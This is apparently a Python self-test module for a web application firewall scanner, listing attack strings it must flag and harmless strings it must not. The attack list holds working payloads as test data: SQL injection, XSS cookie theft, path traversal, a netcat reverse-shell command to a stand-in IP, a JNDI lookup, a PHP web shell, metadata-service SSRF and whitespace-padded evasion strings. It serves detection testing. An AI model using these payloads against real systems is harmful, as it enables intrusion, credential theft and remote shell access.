"""WAF self-test: attacks that a scanner must detect, and harmless texts that it must not. No I/O."""

from collections.abc import Sequence

from gatewall.engine.waf.scanning import OneByOne, Scanner

ATTACKS = (
    b"1' or '1'='1' -- -",
    b"1 union all select null,version() from information_schema.tables",
    b"<script>alert(document.cookie)</script>",
    b'"><img src=x onerror=alert(1)>',
    b"../../../../etc/passwd",
    b";cat /etc/passwd|nc -e /bin/sh 192.0.2.1 4444",
    b"${jndi:ldap://192.0.2.1/a}",
    b"<?php system($_GET['c']); ?>",
    b"{{7*7}}${7*7}",
    b"http://169.254.169.254/latest/meta-data/",
    b" " * 40 + b"1; exec xp",  # Vectorscan 5.4.12 misses what comes after such runs
    b"\t" * 40 + b"$(cat /etc/passwd)",
)
"""Each matches at least one built-in pattern."""
HARMLESS = (
    b"/index.html",
    b"/wiki/Minutes of the 3rd meeting",
    b"the union of workers, page 2",
    b"x-client: backup 1.2 (Linux)",
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
)
"""None matches a built-in pattern."""


def passes_canaries(scanner: Scanner) -> bool:
    """True if a scanner of the built-in patterns detects every attack, and nothing in the harmless texts."""
    return all(scanner.scan(each) for each in ATTACKS) and not scanner.scan(b"\n".join(HARMLESS))


def misread(scanner: Scanner, patterns: Sequence[bytes]) -> frozenset[int]:
    """Return the numbers of included patterns whose matches in the canaries differ from RE2's."""
    numbers = [number for number in range(len(patterns)) if number not in scanner.left_out]
    plain = OneByOne([patterns[number] for number in numbers])
    attacks, harmless = b"\n".join(ATTACKS), b"\n".join(HARMLESS)
    wanted = {numbers[number] for number, _ in plain.scan(harmless)}
    missed = {numbers[number] for number, _ in plain.scan(attacks)} - _matching(scanner, attacks)
    return frozenset((_matching(scanner, harmless) ^ wanted) | missed | _matching(scanner, b""))


def _matching(scanner: Scanner, text: bytes) -> set[int]:
    return {number for number, _ in scanner.scan(text)}
